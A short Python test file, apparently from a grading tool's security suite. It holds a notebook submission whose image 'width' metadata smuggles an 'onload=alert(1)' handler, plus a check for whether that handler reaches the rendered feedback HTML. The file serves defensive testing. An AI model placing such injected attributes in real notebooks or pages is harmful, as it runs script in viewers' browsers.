"""Shows a picture whose width brings a script along."""

ANSWER = """
from IPython.display import display
dot = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
display({"image/png": dot}, raw=True, metadata={"image/png": {"width": "1 onload=alert(1)"}})
def double(x):
    return x
"""


def won(course, me):
    return "onload" in (course.root / "feedback" / me / "toy" / "Toy.html").read_text(encoding="utf-8")
